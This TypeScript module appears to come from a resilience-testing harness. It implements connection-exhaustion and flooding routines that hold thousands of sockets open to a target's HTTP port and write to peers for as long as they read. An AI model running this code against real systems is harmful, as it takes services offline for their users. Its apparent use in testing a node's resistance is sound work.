/** Thousands of connections that an attack opens and keeps, and what it writes into them. */
import { connect, type Socket } from 'node:net';
import type { Writable } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';

const SOCKETS = 3000;
/** Connections that are opened at once, so that the attacker's own backlog is not what is measured. */
const BURST = 50;
const EVERY_MS = 10;

/**
 * @param ask the first bytes of a connection.
 * @param speak called when the node has answered them; nothing else that comes is answered, not even its end.
 */
export function keepSockets(ask: () => string, speak: (socket: Socket) => void): Attack['run'] {
  return async ({ host, httpPort }, until) => {
    const open = new Set<Socket>();
    while (!until.aborted) {
      for (let count = 0; count < BURST && open.size < SOCKETS; count++) {
        const socket = connect(httpPort, host);
        open.add(socket);
        socket.on('error', () => {});
        socket.on('close', () => open.delete(socket));
        socket.once('data', () => {
          socket.resume();
          speak(socket);
        });
        socket.write(ask());
      }
      await sleep(EVERY_MS);
    }
    for (const socket of open) socket.destroy();
  };
}

/** Writes for as long as the peer reads. */
export function flood(stream: Writable, bytes: Buffer): void {
  const go = (): void => {
    while (stream.writable && stream.write(bytes));
  };
  stream.on('drain', go);
  go();
}
